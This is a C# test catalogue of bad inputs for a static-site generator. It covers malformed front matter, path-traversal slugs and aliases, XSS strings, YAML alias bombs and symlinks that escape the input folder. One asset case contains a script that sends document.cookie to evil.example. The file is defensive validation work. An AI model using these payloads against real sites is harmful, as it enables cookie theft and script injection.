using System.Text;

namespace Site.Tests.BadInput;

/// <summary>
/// The bad-input catalogue of issue 8: every way a pull request can hurt a build, with the
/// answer the contributor must get. Line numbers count the front matter's opening `---` as line 1.
/// </summary>
public static class BadInputCases
{
    private const string Project = "input/en/projects/bad.md";
    private const string Post = "input/en/blog/2020/bad.md";

    public static IReadOnlyList<BadInputCase> All { get; } =
    [
        // Front matter shape.
        Fails("unterminated front matter", Project, "---\ntitle: Bad\nmaturity: sandbox\ncategory: service-mesh\nBody without a closing fence.\n", 1, "not closed"),
        Fails("malformed yaml", Project, "---\ntitle: [Bad\nmaturity: sandbox\ncategory: service-mesh\n---\nBody.\n", 2, "not valid YAML"),
        Fails("unclosed quote", Project, "---\nmaturity: sandbox\ntitle: \"Bad\ncategory: service-mesh\n---\nBody.\n", null, "not valid YAML"),
        Fails("duplicate key", Project, "---\ntitle: Bad\ntitle: Again\nmaturity: sandbox\ncategory: service-mesh\n---\nBody.\n", 3, "duplicate key"),
        Fails("front matter is a list", Project, "---\n- title\n- Bad\n---\nBody.\n", 2, "key: value"),
        Fails("empty file", Project, "", 1, "missing front matter"),
        Fails("missing front matter", Project, "Just a body.\n", 1, "missing front matter"),

        // Keys.
        Fails("missing required key", Project, Page("title: Bad\ncategory: service-mesh"), 1, "maturity"),
        Fails("misspelt key", Project, Page("title: Bad\nmaturty: sandbox\ncategory: service-mesh"), 3, "maturity"),
        Fails("key of another page kind", Post, Page("title: Bad\ndate: 2020-01-01\nmaturity: sandbox"), 4, "maturity"),
        Fails("alias key trying to leave the site", Post, Page("title: Bad\ndate: 2020-01-01\naliases: [/../../etc/passwd]"), 4, "aliases"),
        Fails("slug key trying to leave the site", Post, Page("title: Bad\ndate: 2020-01-01\nslug: ../../outside"), 4, "slug"),

        // Types and values.
        Fails("impossible date", Post, Page("title: Bad\ndate: 2019-02-30"), 3, "ISO date"),
        Fails("date in words", Post, Page("title: Bad\ndate: last tuesday"), 3, "ISO date"),
        Fails("date as a list", Post, Page("title: Bad\ndate: [2019-01-01]"), 3, "ISO date"),
        Fails("unknown maturity", Project, Page("title: Bad\nmaturity: graduate\ncategory: service-mesh"), 3, "graduated"),
        Fails("tags given as a string", Post, Page("title: Bad\ndate: 2020-01-01\ntags: kubernetes, helm"), 4, "must be a list"),
        Fails("title given as a list", Post, Page("title: [Bad, Worse]\ndate: 2020-01-01"), 2, "single text value"),
        Fails("draft given as yes", Post, Page("title: Bad\ndate: 2020-01-01\ndraft: yes"), 4, "`true` or `false`"),
        Fails("order given as a word", "input/en/categories/bad.md", Page("title: Bad\norder: first"), 3, "whole number"),
        Fails("unknown sig kind", "input/en/sigs/bad.md", Page("title: Bad\nkind: committee"), 3, "kind"),

        // References.
        Fails("unknown category", Project, Page("title: Bad\nmaturity: sandbox\ncategory: no-such-category"), 4, "no-such-category"),
        Fails("category that tries to leave the site", Project, Page("title: Bad\nmaturity: sandbox\ncategory: ../../etc"), 4, "../../etc"),
        Fails("unknown sig", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nsig: tag-nowhere"), 5, "tag-nowhere"),
        Fails("unknown project in a post", Post, Page("title: Bad\ndate: 2020-01-01\nprojects: [linkerd, linkred]"), 4, "linkred"),
        Fails("broken internal link", Post, Page("title: Bad\ndate: 2020-01-01", "Intro.\n\nSee [nowhere](/projects/nowhere/)."), 7, "/projects/nowhere/"),

        // Translations.
        Fails("translation without a source", "input/zh/projects/orphan.md", Page("title: 孤儿"), 1, "source"),
        Fails("translation contradicting a fact", "input/zh/projects/linkerd.md", Page("title: Linkerd\nmaturity: sandbox"), 3, "maturity"),
        Fails("translation with a fact of its own", "input/zh/projects/linkerd.md", Page("title: Linkerd\nhomepage: https://evil.example/"), 3, "homepage"),

        // One URL, two files.
        Custom("post names differing only in case", site => site.Write("input/en/blog/2019/Benchmarks.md", Page("title: Again\ndate: 2019-05-30")), 1, "input/en/blog/2019/benchmarks.md", 1, "differ only in letter case"),
        Custom("page names differing only in case", site => site.Write("input/en/pages/About.md", Page("title: About again")), 1, "input/en/pages/about.md", 1, "differ only in letter case"),

        // Names that try to leave the site.
        Fails("file name that is not a slug", "input/en/pages/two words.md", Page("title: Bad"), null, "slug"),
        Fails("page in an unknown folder", "input/en/secrets/bad.md", Page("title: Bad"), 1, "pages live in"),
        Custom("language folder not in site.yml", site => site.Write("input/fr/pages/about.md", Page("title: À propos")), 1, "input/fr", null, "add `fr` to `languages:` in site.yml"),

        // Link fields.
        Fails("javascript url in homepage", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nhomepage: javascript:alert(1)"), 5, "http(s) URL"),
        Fails("data url in repo", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nrepo: \"data:text/html,<script>alert(1)</script>\""), 5, "http(s) URL"),
        Fails("url that crashes the runtime uri parser", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nhomepage: \"file://\\u202E\""), 5, "http(s) URL"),
        Fails("javascript url in originalUrl", Post, Page("title: Bad\ndate: 2020-01-01\noriginalUrl: \" JaVaScRiPt:alert(1)\""), 4, "http(s) URL"),
        Accepts("javascript and data links in the body are dropped", Post, Page("title: Links\ndate: 2020-01-01", "[click](javascript:alert(1)) ![img](data:image/svg+xml,x) <javascript:alert(2)>"), (site, _) =>
        {
            var html = File.ReadAllText(site.Combine("output/blog/2020/bad/index.html"));
            Assert.DoesNotMatch(@"(?i)(href|src)\s*=\s*""?\s*(javascript|data):", html);
            Assert.Contains("click", html, StringComparison.Ordinal);
        }),

        // Encodings.
        AcceptsBytes("utf-8 bom and crlf", Project, [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("---\r\ntitle: Bom\r\nmaturity: sandbox\r\ncategory: service-mesh\r\n---\r\nBody with CRLF.\r\n")]),
        FailsBytes("invalid utf-8", Project, [.. Encoding.UTF8.GetBytes("---\ntitle: Bad\nmaturity: sandbox\ncategory: service-mesh\n---\nHello "), 0xC3, 0x28, .. Encoding.UTF8.GetBytes(" world\n")], 6, "UTF-8"),

        // Size and depth.
        // Refused by the loader before any parsing or rendering, at the page's own path.
        Fails("a 20 MB page", "input/en/pages/huge.md", Page("title: Huge", string.Concat(Enumerable.Repeat("Cloud native words make a very long page indeed.\n\n", 20 * 1024 * 1024 / 50))), 1, "MiB"),
        Accepts("10,000-deep nested lists", "input/en/pages/lists.md", Page("title: Lists", string.Concat(Enumerable.Range(0, 10_000).Select(i => new string(' ', Math.Min(i * 2, 40)) + "- item\n")))),
        Fails("10,000-deep nested quotes", "input/en/pages/quotes.md", Page("title: Quotes", new string('>', 10_000) + " deep"), 4, "nested too deeply"),
        Fails("10,000-deep nested front matter", Project, Page("title: " + new string('[', 10_000) + new string(']', 10_000)), 2, "nested"),
        Fails("yaml alias bomb", Project, Page("title: Bad\nmaturity: sandbox\ncategory: service-mesh\nsummary: &a [x, x]\ntags: [*a, *a]"), 5, "anchors"),

        // Raw HTML policy: the allow-list of SECURITY.md; each removal is a warning at the HTML's position.
        new("raw html and script in a body are sanitized with warnings", site => site.Write(Post, Page("title: Html\ndate: 2020-01-01",
            "Press <kbd>Ctrl</kbd>.\n\n<script>alert(1)</script>\n\n<b onclick=alert(2)>bold</b>\n\n<iframe src=https://evil.example/></iframe>")), 0, Post, 7, "removed `<script>`")
        {
            Verify = (site, run) =>
            {
                var html = File.ReadAllText(site.Combine("output/blog/2020/bad/index.html"));
                Assert.Contains("<kbd>Ctrl</kbd>", html, StringComparison.Ordinal);
                Assert.Contains("<b>bold</b>", html, StringComparison.Ordinal);
                Assert.DoesNotContain("alert(", html, StringComparison.Ordinal);
                Assert.DoesNotContain("<iframe", html, StringComparison.Ordinal);
                Assert.Contains($"{Post}:9:1: warning: removed `onclick` from `<b>`", run.Stderr, StringComparison.Ordinal);
                Assert.Contains($"{Post}:11:1: warning: removed `<iframe>`", run.Stderr, StringComparison.Ordinal);
            },
        },
        Accepts("hostile strings in every front-matter field", "input/en/sigs/hostile.md", Page(
            $"title: \"{Hostile}\"\nkind: sig\nsummary: \"{Hostile}\"\nchairs: [\"{Hostile}\"]\ntocLiaisons: [\"{Hostile}\"]\nmeetings: \"{Hostile}\"\nchannels: [\"{Hostile}\"]"), (site, _) =>
            HostileOutput.AssertEscaped(site.Combine("output"))),
        Accepts("hostile strings in post fields and tags", Post, Page(
            $"title: \"{Hostile}\"\ndate: 2020-01-01\nauthors: [\"{Hostile}\"]\ntags: [\"{Hostile}\", \"../../../outside\"]\nsummary: \"{Hostile}\"\noriginalUrl: \"https://example.org/?a=1&b=\\\"><script>alert(9)</script>\""), (site, _) =>
        {
            HostileOutput.AssertEscaped(site.Combine("output"));
            Assert.False(Directory.Exists(site.Combine("outside")));
        }),

        new("hostile strings in project, category and translation fields", site =>
        {
            site.Write("input/en/projects/hostile.md", Page(
                $"title: \"{Hostile}\"\nmaturity: sandbox\ncategory: hostile\nsummary: \"{Hostile}\"\nhomepage: \"https://example.org/?q=\\\"><script>alert(9)</script>\"\nrepo: \"https://example.org/a'b<c>\""));
            site.Write("input/en/categories/hostile.md", Page($"title: \"{Hostile}\"\nsummary: \"{Hostile}\""));
            site.Write("input/zh/projects/hostile.md", Page($"title: \"{Hostile}\"\nsummary: \"{Hostile}\""));
        }, 0, null, null, string.Empty)
        {
            Verify = (site, _) => HostileOutput.AssertEscaped(site.Combine("output")),
        },

        // Theme.
        Fails("template syntax error", "theme/partials/broken.scriban", "ok\n{{ if }}\n", 2, ""),
        Custom("template runtime error", site => site.Write("theme/layouts/page.scriban", ThemeFile("layouts/page.scriban") + "{{ x = null; x.y.z }}\n"), 1, "theme/layouts/page.scriban", ThemeLines("layouts/page.scriban") + 1, "null"),
        Fails("template that never ends", "theme/layouts/page.scriban", "line one\n{{ while true }}x{{ end }}\n", 2, "limit"),
        Fails("template recursing forever", "theme/layouts/page.scriban", "{{ func f; f; end }}\n{{ f }}\n", 1, "limit"),
        Fails("missing partial", "theme/layouts/page.scriban", "start\n{{ include 'no_such_partial' }}\n", 2, "no_such_partial"),
        Fails("partial path that leaves the theme", "theme/layouts/page.scriban", "start\n{{ include '../../../../etc/passwd' }}\n", 2, ""),
        Fails("invalid ui strings", "translations/zh.yml", "nav: [unclosed\n", 2, "invalid YAML"),
        Fails("100,000-deep nested ui strings", "translations/zh.yml", "nav: " + new string('[', 100_000) + "\n", null, "nested more than 64 levels"),

        // site.yml.
        Custom("missing site.yml", site => site.Delete("input/site.yml"), 1, "input/site.yml", null, "site.yml"),
        Fails("site.yml that is not yaml", "input/site.yml", "title: { en: Test\nbaseUrl: [\n", null, "not valid YAML"),
        Fails("site.yml without languages", "input/site.yml", "title: { en: Test KB }\nbaseUrl: https://kb.example.org/\ntheme: default\n", 1, "languages"),
        Fails("site.yml with a language that has no ui strings", "input/site.yml", "title: { en: Test KB, zh: 测试, fr: Base }\nbaseUrl: https://kb.example.org/\nlanguages:\n  - { code: en, name: English, locale: en-US }\n  - { code: zh, name: 中文, locale: zh-CN }\n  - { code: fr, name: Français, locale: fr-FR }\ntheme: default\n", 6, "language `fr` has no UI strings"),
        Fails("site.yml with a javascript base url", "input/site.yml", "title: { en: Test KB, zh: 测试 }\nbaseUrl: javascript:alert(1)\nlanguages:\n  - { code: en, name: English, locale: en-US }\n  - { code: zh, name: 中文, locale: zh-CN }\ntheme: default\n", 2, "baseUrl"),

        // Assets: nothing that runs script on the site's origin, nothing that replaces the theme.
        Fails("content asset replacing the theme's stylesheet", "input/assets/css/site.css", "body { display: none }\n", null, "theme"),
        Fails("content asset replacing the theme's script", "input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n", null, "replace the theme's file"),
        Fails("html file in assets", "input/assets/demo/index.html", "<script>alert(1)</script>\n", null, "script"),
        Fails("wasm file in assets", "input/assets/bin/app.wasm", "\0asm", null, "script"),
        Accepts("svg image in assets", "input/assets/img/diagram.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n", (site, _) =>
            Assert.True(File.Exists(site.Combine("output/assets/img/diagram.svg")))),

        // Markdown as real contributors write it (issue 14).
        Fails("link to a page of another section", Post, Page("title: Bad\ndate: 2020-01-01", "See [about](/about/)."), 5, "did you mean /pages/about/?"),
        Fails("missing image", Post, Page("title: Bad\ndate: 2020-01-01", "Intro.\n\n![chart](/assets/img/chart.png)"), 7, "put the file at input/assets/img/chart.png"),
        Fails("unknown component", Post, Page("title: Bad\ndate: 2020-01-01", "Intro.\n\n{{< notice >}}\nText.\n{{< /notice >}}"), 7, "unknown component `notice`"),
        Fails("unknown component argument", Post, Page("title: Bad\ndate: 2020-01-01", "{{< youtube w7Ft2ymGmfc titel=\"x\" >}}"), 5, "unknown argument `titel` for `youtube`; did you mean `title`?"),
        Warns("body starting with another title", site => site.Write(Post, Page("title: Twice\ndate: 2020-01-01", "# Once more\n\nText.")), Post, "second `<h1>`"),
        Accepts("draft free page", "input/en/pages/roadmap.md", Page("title: Roadmap\ndraft: true", "Soon."), (site, _) =>
            Assert.False(Directory.Exists(site.Combine("output/pages/roadmap")))),

        // Third-party hosts: the site loads nothing from them (CSP, mainland China).
        Fails("image from another host", Post, Page("title: Bad\ndate: 2020-01-01", "Intro.\n\n![chart](https://cdn.example.org/chart.png)"), 7, "input/assets/"),
        Accepts("link to another site", Post, Page("title: Fine\ndate: 2020-01-01", "See [the docs](https://linkerd.io/docs/).")),

        // Symbolic links.
        Warns("symlink loop in input", site => Directory.CreateSymbolicLink(site.Combine("input/en/pages/loop"), site.Combine("input/en")), "input/en/pages/loop", "not followed"),
        Custom("symlink to a file outside input", site =>
        {
            var secret = site.Write("secret.md", "---\ntitle: Secret\n---\nPrivate.\n");
            File.CreateSymbolicLink(site.Combine("input/en/pages/secret.md"), secret);
        }, 1, "input/en/pages/secret.md", null, "link"),
        Custom("symlinked asset outside input", site =>
        {
            var secret = site.Write("secret.txt", "private\n");
            Directory.CreateDirectory(site.Combine("input/assets"));
            File.CreateSymbolicLink(site.Combine("input/assets/secret.txt"), secret);
        }, 1, "input/assets/secret.txt", null, "link"),
    ];

    /// <summary>Markup, attribute breakers, script terminators, JavaScript line terminators, bidi and CJK in one YAML-quotable string.</summary>
    public const string Hostile = "<script>alert('x')</script>\\\"><img src=x onerror=alert(1)> & </title></script> \\u2028 \\u202E 中文 {{ page.title }} ]]> --> &amp;";

    private static string Page(string frontMatter, string body = "Body.") => $"---\n{frontMatter}\n---\n{body}\n";

    private static BadInputCase Warns(string name, Action<MinimalSite> arrange, string path, string fragment) =>
        new(name, arrange, 0, path, null, fragment);

    private static string ThemeFile(string relative) => File.ReadAllText(Path.Combine(MinimalSite.RepositoryRoot, "themes", "default", relative)).TrimEnd('\n') + "\n";

    private static int ThemeLines(string relative) => ThemeFile(relative).Count(c => c == '\n');

    private static BadInputCase Fails(string name, string path, string text, int? line, string fragment) =>
        new(name, site => site.Write(path, text), 1, path, line, fragment);

    private static BadInputCase FailsBytes(string name, string path, byte[] bytes, int? line, string fragment) =>
        new(name, site => site.WriteBytes(path, bytes), 1, path, line, fragment);

    private static BadInputCase Accepts(string name, string path, string text, Action<MinimalSite, CliRun>? verify = null) =>
        new(name, site => site.Write(path, text), 0, null, null, string.Empty) { Verify = verify };

    private static BadInputCase AcceptsBytes(string name, string path, byte[] bytes) =>
        new(name, site => site.WriteBytes(path, bytes), 0, null, null, string.Empty);

    private static BadInputCase Custom(string name, Action<MinimalSite> arrange, int exitCode, string path, int? line, string fragment) =>
        new(name, arrange, exitCode, path, line, fragment);
}
